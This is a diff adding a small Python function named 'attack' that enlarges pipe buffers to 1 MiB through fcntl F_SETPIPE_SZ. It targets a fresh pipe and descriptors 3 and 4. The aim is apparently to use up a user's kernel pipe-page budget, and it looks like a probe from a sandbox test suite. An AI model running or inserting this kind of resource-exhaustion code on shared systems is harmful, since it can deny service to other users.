@@ -1,0 +1,13 @@
+"""Enlarges pipes, which no limit of a process counts, and of which a user has so many pages in all."""
+
+import fcntl
+import os
+
+
+def attack(a, *rest, **named):
+    for descriptor in (*os.pipe(), 3, 4):
+        try:
+            print("FOUND", fcntl.fcntl(descriptor, 1031, 1 << 20))  # F_SETPIPE_SZ
+        except OSError:
+            pass
+    return a
